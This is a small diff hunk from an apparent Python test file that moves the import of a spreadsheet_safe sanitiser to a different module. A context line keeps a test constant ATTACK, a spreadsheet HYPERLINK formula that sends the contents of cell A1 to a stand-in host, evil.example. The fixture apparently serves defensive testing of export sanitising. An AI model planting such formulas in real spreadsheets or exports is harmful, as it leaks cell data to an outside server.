@@ -9,9 +9,10 @@ from urllib.parse import quote
 
 import pytest
 
-from server.exports import TABLE_COLUMNS, spreadsheet_safe
+from server.exports import TABLE_COLUMNS
 from tests.server.helpers import ApiClient, create_external
 from tests.server.run_table_data import RunsTable
+from trainer.spreadsheet import spreadsheet_safe
 
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
